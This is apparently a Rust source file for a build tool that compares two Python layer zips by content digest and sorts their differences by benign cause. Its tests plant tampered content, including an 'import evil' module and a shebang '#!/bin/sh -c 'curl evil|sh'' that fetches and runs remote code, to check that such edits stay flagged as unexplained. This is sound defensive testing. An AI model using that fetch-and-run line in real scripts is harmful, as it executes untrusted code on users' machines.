//! `cargo xtask compare A B`: are two builds the same layer? Each side is a manifest (its zip is
//! checked against it) or a zip. Identical means the same content digest: the same paths, kinds
//! and bytes (see `artifacts::digest`), whatever zip holds them. Otherwise it lists what differs,
//! grouped by the causes two honest builds differ by (another package version, another
//! interpreter path in scripts, bytecode, installer metadata), so "another build image" is not
//! mistaken for "another build".

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use anyhow::Context as _;
use clap::Args;
use serde::Serialize;

use crate::artifacts::digest::{self, Entry};
use crate::manifest::Manifest;

mod causes;

/// Compare two layers (manifests or zips): exit 0 when identical, 1 when they differ.
#[derive(Debug, Clone, Args)]
pub struct Compare {
    /// A manifest (`<LayerName>.json`), a layer zip, or an out-dir holding one manifest.
    pub a: PathBuf,
    /// The other one.
    pub b: PathBuf,
    /// Print one JSON object instead of the report.
    #[arg(long)]
    pub json: bool,
}

/// One side: its zip, its entries and digest.
#[derive(Debug, Serialize)]
pub struct Side {
    pub zip: PathBuf,
    pub content_sha256: String,
    pub files: usize,
    /// A manifest written before manifests carried the digest: its zip's digest is used.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub warning: Option<String>,
    #[serde(skip)]
    entries: Vec<Entry>,
}

/// How one path differs.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Difference {
    pub path: String,
    /// `only in a`, `only in b`, `content` or `kind`.
    pub how: &'static str,
    pub detail: String,
}

/// A known reason for some of the differences.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Cause {
    pub cause: &'static str,
    pub explanation: String,
    pub paths: Vec<String>,
}

#[derive(Debug, Serialize)]
pub struct Comparison {
    pub identical: bool,
    pub a: Side,
    pub b: Side,
    /// Known causes; each difference is in at most one.
    pub causes: Vec<Cause>,
    /// Differences no known cause explains.
    pub unexplained: Vec<Difference>,
    pub differences: usize,
}

impl Compare {
    pub fn run(self) -> anyhow::Result<ExitCode> {
        let comparison = compare(&self.a, &self.b)?;
        let mut out = std::io::stdout().lock();
        if self.json {
            writeln!(out, "{}", serde_json::to_string(&comparison)?)?;
        } else {
            write!(out, "{}", comparison.human())?;
        }
        Ok(ExitCode::from(u8::from(!comparison.identical)))
    }
}

/// Reads both sides and compares them.
pub fn compare(a: &Path, b: &Path) -> anyhow::Result<Comparison> {
    let (a, b) = (side(a)?, side(b)?);
    let differences = differences(&a.entries, &b.entries);
    let (causes, unexplained) = causes::explain(&differences, &a, &b);
    Ok(Comparison {
        identical: a.content_sha256 == b.content_sha256,
        differences: differences.len(),
        a,
        b,
        causes,
        unexplained,
    })
}

/// A manifest (its zip, checked against it) or a zip.
fn side(path: &Path) -> anyhow::Result<Side> {
    let path = &match path.is_dir() {
        true => only_manifest(path)?,
        false => path.to_path_buf(),
    };
    let is_manifest = path.extension().is_some_and(|e| e == "json");
    let (zip, recorded) = match is_manifest {
        true => {
            let manifest = Manifest::read(path)?;
            (manifest.check_zip(path)?, manifest.content_sha256)
        }
        false => (path.to_path_buf(), None),
    };
    let entries = digest::read_zip(&zip)?;
    let content_sha256 = digest::content_sha256(&entries);
    if recorded.as_ref().is_some_and(|r| *r != content_sha256) {
        anyhow::bail!(
            "{} records another content digest than its zip's: the manifest was edited",
            path.display()
        );
    }
    let warning = (is_manifest && recorded.is_none()).then(|| {
        format!(
            "{} records no content digest (written by an older build-layer): its zip's is used",
            path.display()
        )
    });
    Ok(Side {
        zip,
        content_sha256,
        files: entries.len(),
        warning,
        entries,
    })
}

/// The one build manifest in an out-dir (`build-layer --out-dir`).
fn only_manifest(dir: &Path) -> anyhow::Result<PathBuf> {
    let listing =
        std::fs::read_dir(dir).with_context(|| format!("cannot list {}", dir.display()))?;
    let mut manifests = Vec::new();
    for item in listing {
        let path = item
            .with_context(|| format!("cannot list {}", dir.display()))?
            .path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default();
        if name.ends_with(".json") && !name.starts_with('.') && Manifest::read(&path).is_ok() {
            manifests.push(path);
        }
    }
    manifests.sort();
    match manifests.as_slice() {
        [one] => Ok(one.clone()),
        [] => anyhow::bail!(
            "{} holds no build manifest: name a manifest or a zip",
            dir.display()
        ),
        many => anyhow::bail!(
            "{} holds {} build manifests ({}): name the one to compare",
            dir.display(),
            many.len(),
            many.iter()
                .filter_map(|p| p.file_name().map(|n| n.to_string_lossy().to_string()))
                .collect::<Vec<_>>()
                .join(", ")
        ),
    }
}

/// Every path that is not the same on both sides, in path order.
fn differences(a: &[Entry], b: &[Entry]) -> Vec<Difference> {
    let a: BTreeMap<&str, &Entry> = a.iter().map(|e| (e.name.as_str(), e)).collect();
    let b: BTreeMap<&str, &Entry> = b.iter().map(|e| (e.name.as_str(), e)).collect();
    let paths: BTreeSet<&str> = a.keys().chain(b.keys()).copied().collect();
    let mut out = Vec::new();
    for path in paths {
        let difference = |how, detail| Difference {
            path: path.to_string(),
            how,
            detail,
        };
        match (a.get(path), b.get(path)) {
            (Some(x), None) => out.push(difference("only in a", format!("{} bytes", x.size))),
            (None, Some(y)) => out.push(difference("only in b", format!("{} bytes", y.size))),
            (Some(x), Some(y)) if x.kind != y.kind => out.push(difference(
                "kind",
                format!("{} → {}", x.kind.describe(), y.kind.describe()),
            )),
            (Some(x), Some(y)) if x.sha256 != y.sha256 => out.push(difference(
                "content",
                format!("{} → {} bytes", x.size, y.size),
            )),
            _ => {}
        }
    }
    out
}

impl Comparison {
    /// The report: the first line says whether they are identical.
    pub fn human(&self) -> String {
        let mut text = self.report();
        for warning in [&self.a.warning, &self.b.warning].into_iter().flatten() {
            text.push_str(&format!("warning: {warning}\n"));
        }
        text
    }

    fn report(&self) -> String {
        let mut text = String::new();
        let line = |text: &mut String, s: String| {
            text.push_str(&s);
            text.push('\n');
        };
        if self.identical {
            line(
                &mut text,
                format!(
                    "identical: content sha256 {} ({} files)",
                    self.a.content_sha256, self.a.files
                ),
            );
            return text;
        }
        line(
            &mut text,
            match self.differences {
                1 => "different: 1 path differs".to_string(),
                n => format!("different: {n} paths differ"),
            },
        );
        for (label, side) in [("a", &self.a), ("b", &self.b)] {
            line(
                &mut text,
                format!(
                    "  {label}: {} (content sha256 {}, {} files)",
                    side.zip.display(),
                    side.content_sha256,
                    side.files
                ),
            );
        }
        for cause in &self.causes {
            line(
                &mut text,
                format!(
                    "cause: {}: {} ({} paths)",
                    cause.cause,
                    cause.explanation,
                    cause.paths.len()
                ),
            );
            for path in cause.paths.iter().take(SHOWN) {
                line(&mut text, format!("    {path}"));
            }
            more(&mut text, cause.paths.len());
        }
        if !self.unexplained.is_empty() {
            line(
                &mut text,
                format!("unexplained: {} paths", self.unexplained.len()),
            );
            for d in self.unexplained.iter().take(SHOWN) {
                line(
                    &mut text,
                    format!("    {:<9}  {}  ({})", d.how, d.path, d.detail),
                );
            }
            more(&mut text, self.unexplained.len());
        }
        text
    }
}

/// Paths shown per group in the report (`--json` has them all).
const SHOWN: usize = 20;

fn more(text: &mut String, total: usize) {
    if total > SHOWN {
        text.push_str(&format!(
            "    … and {} more (--json lists them all)\n",
            total - SHOWN
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifacts::zip::{write_zip, ZipOptions};

    /// A layer zip of `files` (`path`, content; `*` in front: executable) written at `epoch`.
    fn layer(dir: &Path, name: &str, files: &[(&str, &str)], epoch: i64) -> PathBuf {
        let tree = tempfile::tempdir().unwrap();
        for (path, content) in files {
            let (path, executable) = match path.strip_prefix('*') {
                Some(path) => (path, true),
                None => (*path, false),
            };
            let path = tree.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, content).unwrap();
            if executable {
                use std::os::unix::fs::PermissionsExt as _;
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
        }
        let zip = dir.join(name);
        let options = ZipOptions {
            source_date_epoch: Some(epoch),
            threads: 1,
            reuse: None,
        };
        write_zip(tree.path(), &zip, &options).unwrap();
        zip
    }

    /// A RECORD line for `path` holding `content`.
    fn record(path: &str, content: &str) -> String {
        use base64::Engine as _;
        use sha2::Digest as _;
        let hash = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(sha2::Sha256::digest(content.as_bytes()));
        format!("{path},sha256={hash},{}\n", content.len())
    }

    /// A layer with six at `six_version` (its module `six_content`), numpy's f2py script with
    /// `shebang`, and `extra` files.
    fn layer_files(six_version: &str, six_content: &str, f2py: &str) -> Vec<(String, String)> {
        vec![
            ("python/six.py".into(), six_content.into()),
            (
                format!("python/six-{six_version}.dist-info/METADATA"),
                "Name: six".into(),
            ),
            (
                format!("python/six-{six_version}.dist-info/RECORD"),
                record("six.py", six_content),
            ),
            ("*python/bin/f2py".into(), f2py.into()),
            (
                "python/numpy-2.0.2.dist-info/METADATA".into(),
                "Name: numpy".into(),
            ),
            (
                "python/numpy-2.0.2.dist-info/RECORD".into(),
                format!(
                    "{}{}",
                    record("numpy/__init__.py", "np"),
                    record("../../bin/f2py", f2py)
                ),
            ),
            ("python/numpy/__init__.py".into(), "np".into()),
            ("python/x.py".into(), "x = 1".into()),
        ]
    }

    fn as_refs(files: &[(String, String)]) -> Vec<(&str, &str)> {
        files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_str()))
            .collect()
    }

    const F2PY_A: &str = "#!/var/lang/bin/python3.9\nmain()\n";
    const F2PY_B: &str = "#!/usr/bin/python3.9\nmain()\n";

    #[test]
    fn the_same_files_in_another_zip_are_identical() {
        let dir = tempfile::tempdir().unwrap();
        let files = layer_files("1.17.0", "six", F2PY_A);
        let a = layer(dir.path(), "a.zip", &as_refs(&files), 315_532_800);
        let b = layer(dir.path(), "b.zip", &as_refs(&files), 1_700_000_000);
        assert_ne!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
        let comparison = compare(&a, &b).unwrap();
        assert!(comparison.identical, "{}", comparison.human());
        assert!(comparison.human().starts_with("identical: content sha256 "));
    }

    fn causes_of(a: &[(String, String)], b: &[(String, String)]) -> Comparison {
        let dir = tempfile::tempdir().unwrap();
        let a = layer(dir.path(), "a.zip", &as_refs(a), 315_532_800);
        let b = layer(dir.path(), "b.zip", &as_refs(b), 315_532_800);
        compare(&a, &b).unwrap()
    }

    fn cause(comparison: &Comparison, name: &str) -> Vec<String> {
        comparison
            .causes
            .iter()
            .find(|c| c.cause == name)
            .map(|c| c.paths.clone())
            .unwrap_or_default()
    }

    fn unexplained(comparison: &Comparison) -> Vec<(&str, &str)> {
        comparison
            .unexplained
            .iter()
            .map(|d| (d.path.as_str(), d.how))
            .collect()
    }

    #[test]
    fn honest_differences_are_grouped_by_their_cause() {
        let a = layer_files("1.17.0", "six 1.17", F2PY_A);
        let mut b = layer_files("1.16.0", "six 1.16", F2PY_B);
        b.push((
            "python/__pycache__/x.cpython-39.pyc".into(),
            "bytecode".into(),
        ));
        b.push(("python/mine.py".into(), "mine".into()));
        let comparison = causes_of(&a, &b);
        assert!(!comparison.identical);
        assert_eq!(
            cause(&comparison, "package versions"),
            [
                "python/six-1.16.0.dist-info/METADATA",
                "python/six-1.16.0.dist-info/RECORD",
                "python/six-1.17.0.dist-info/METADATA",
                "python/six-1.17.0.dist-info/RECORD",
                "python/six.py",
            ]
        );
        assert_eq!(
            cause(&comparison, "interpreter path"),
            ["python/bin/f2py", "python/numpy-2.0.2.dist-info/RECORD"]
        );
        assert_eq!(
            cause(&comparison, "bytecode"),
            ["python/__pycache__/x.cpython-39.pyc"]
        );
        assert_eq!(unexplained(&comparison), [("python/mine.py", "only in b")]);
        let human = comparison.human();
        assert!(human.starts_with("different: "), "{human}");
        assert!(human.contains("six 1.17.0 → 1.16.0"), "{human}");
    }

    #[test]
    fn a_real_change_is_never_filed_under_a_harmless_cause() {
        let a = layer_files("1.17.0", "six", F2PY_A);
        // A script whose body changed too; a RECORD that does not vouch for the module; a new
        // dist-info beside an edited module; bytecode without its source; a shell `#!` line.
        let mut b = layer_files(
            "1.17.0",
            "six; import evil",
            "#!/usr/bin/python3.9\nmain(); evil()\n",
        );
        b.push(("python/six-9.dist-info/METADATA".into(), "Name: six".into()));
        b.push(("python/evil.pyc".into(), "bytecode".into()));
        b[0].1 = "six; import evil".into();
        let comparison = causes_of(&a, &b);
        assert!(
            cause(&comparison, "interpreter path").is_empty(),
            "{}",
            comparison.human()
        );
        assert!(
            cause(&comparison, "package versions").is_empty(),
            "{}",
            comparison.human()
        );
        let unexplained = unexplained(&comparison);
        for path in ["python/bin/f2py", "python/six.py", "python/evil.pyc"] {
            assert!(
                unexplained.iter().any(|(p, _)| *p == path),
                "{path}: {}",
                comparison.human()
            );
        }

        let shell = layer_files("1.17.0", "six", "#!/bin/sh -c 'curl evil|sh' #\nmain()\n");
        let comparison = causes_of(&a, &shell);
        assert!(
            cause(&comparison, "interpreter path").is_empty(),
            "{}",
            comparison.human()
        );
    }
}
